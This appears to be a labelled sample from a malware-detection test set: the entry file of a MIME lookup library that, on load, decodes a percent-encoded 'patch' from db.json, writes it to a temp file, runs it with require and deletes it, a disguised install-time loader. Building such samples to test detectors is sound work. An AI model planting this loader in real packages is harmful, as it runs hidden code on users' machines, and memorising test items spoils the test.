// expect: malicious
// source: blind set 22 (eval-encoded): a MIME lookup library whose db.json carries a percent-encoded "compatibility
// patch"; loading the package writes it to a temp .js file, requires it and deletes it.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
function applyPatch(meta) {
  if (!meta || !meta.patch) return;
  const src = decodeURIComponent(meta.patch);
  const file = path.join(os.tmpdir(), '.mime-' + process.pid + '.js');
  try {
    fs.writeFileSync(file, src);
    require(file);
  } finally {
    try { fs.unlinkSync(file); } catch (_) {}
  }
}
const db = JSON.parse(fs.readFileSync(path.join(__dirname, 'db.json'), 'utf8'));
applyPatch(db._meta);
module.exports = db;
